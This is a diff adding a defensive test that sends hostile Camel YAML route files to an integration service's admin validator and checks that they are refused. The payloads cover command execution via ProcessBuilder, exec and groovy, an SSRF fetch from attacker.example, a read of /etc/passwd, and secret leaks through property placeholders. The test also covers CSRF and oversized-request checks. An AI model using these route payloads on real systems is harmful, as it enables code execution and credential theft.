@@ -350,6 +350,78 @@ class HostileInputTest {
         serviceStillUp();
     }
 
+    /**
+     * The trust boundaries tried as a hostile caller and a careless operator would: route files that would run code,
+     * read a setting or reach another host; one request that would take the memory the flows run on; a version from
+     * the far future; another site's form; a viewer's look at a person's data.
+     */
+    @Test
+    @Order(5)
+    void trustBoundaries() throws Exception {
+        Path ran = Path.of("target/hostile/route-code-ran");
+        Files.createDirectories(ran.getParent());
+        Files.deleteIfExists(ran);
+        String approverPassword = config("quarkus.security.users.embedded.users.approver");
+        List<String> routeFiles = List.of(
+                "- beans:\n    - name: shell\n      type: java.lang.ProcessBuilder\n      constructors:\n        0: touch\n"
+                        + "        1: " + ran.toAbsolutePath() + "\n      initMethod: start\n",
+                hostileRoute("x-{{ledgerbridge.webhooks.secret:none}}", "- log: a"),
+                hostileRoute("leak", "- log: \"{{quarkus.security.users.embedded.users.approver}}\""),
+                hostileRoute("env", "- log: \"{{env:HOME}}\""),
+                hostileRoute("ssrf", "- to: \"jsonata:http://attacker.example/x.jsonata\""),
+                hostileRoute("read", "- to: \"file:/etc?fileName=passwd\""),
+                hostileRoute("exec", "- to: \"exec:touch?args=" + ran.toAbsolutePath() + "\""),
+                hostileRoute("script", "- setBody:\n            groovy: \"'touch " + ran.toAbsolutePath() + "'.execute()\""));
+        for (String yaml : routeFiles) {
+            byte[] file = yaml.getBytes(java.nio.charset.StandardCharsets.UTF_8);
+            Admin.as(Admin.OPERATOR).contentType("application/yaml").body(file).post("/admin/routes/validate").then()
+                    .statusCode(403);
+            String answer = Admin.as(Admin.INTEGRATOR).contentType("application/yaml").body(file)
+                    .post("/admin/routes/validate?file=hostile.camel.yaml").then().statusCode(422)
+                    .contentType("application/problem+json").extract().asString();
+            assertThat(answer).as(yaml).doesNotContain(approverPassword).contains("hostile.camel.yaml:");
+            count("admin route file", "422 refused by the route policy");
+        }
+        assertThat(ran).as("no route file ran code").doesNotExist();
+
+        // one call of 100,000 empty records (300 KB, under the body limit): refused whole, briefly, the flows run on
+        Reply many = call("POST", "/api/v1/time-entries", "[" + "{},".repeat(99_999) + "{}]", null);
+        assertThat(many.statusCode()).isEqualTo(413);
+        assertThat(many.body()).contains("too-many-records").hasSizeLessThan(2_000);
+        count("webhook time entries", "413 too many records");
+
+        // a version from the far future would supersede every real later version: a VALIDATION dead letter
+        long future = TimeEntryFixtures.nextId();
+        given().contentType("application/json").body(project.approvedEntry(future, "1", "9999-12-31T23:59:59Z"))
+                .post("/api/v1/time-entries").then().statusCode(202);
+        await().atMost(Duration.ofSeconds(60)).until(() -> !Store.deadLetters(future).isEmpty());
+        DeadLetter letter = Store.deadLetters(future).get(0);
+        assertThat(letter.errorClass).isEqualTo(ErrorClass.VALIDATION);
+        count("webhook time entries", "dead letter VALIDATION (version from the future)");
+
+        // another site's form, with the credentials a browser keeps: refused before anything is looked at
+        Admin.as(Admin.APPROVER).formParam("x", "1").post("/admin/replay-jobs/1/approve").then().statusCode(415);
+        Admin.as(Admin.OPERATOR).contentType("text/plain").body("x").post("/admin/dead-letters/" + letter.id + "/replay")
+                .then().statusCode(415);
+        Admin.as(Admin.INTEGRATOR).formParam("x", "1").post("/admin/routes/reload").then().statusCode(415);
+        Admin.as(Admin.OPERATOR).header("Sec-Fetch-Site", "cross-site").contentType("application/json")
+                .post("/admin/dead-letters/" + letter.id + "/replay").then().statusCode(403);
+        count("admin cross-site", "415/403 refused", 4);
+        // and a viewer sees the dead letter without the person in it
+        String viewed = Admin.as(Admin.VIEWER).get("/admin/dead-letters/" + letter.id).then().statusCode(200)
+                .extract().asString();
+        assertThat(viewed).doesNotContain("Kim Allen").contains("***");
+
+        postGoodEntry();
+        assertGoodPostedOnce();
+        serviceStillUp();
+    }
+
+    static String hostileRoute(String id, String step) {
+        return "- route:\n    id: \"" + id + "\"\n    from:\n      uri: direct:hostile-" + Math.abs(id.hashCode())
+                + "\n      steps:\n        " + step + "\n";
+    }
+
     // ---- helpers
 
     /** An HTTP answer as the caller saw it. */
@@ -577,7 +649,7 @@ class HostileInputTest {
     }
 
     static void serviceStillUp() {
-        given().get("/q/health/ready").then().statusCode(200);
+        given().get(io.ledgerbridge.testing.Management.url("/q/health/ready")).then().statusCode(200);
     }
 
     static String textOf(Input input) {
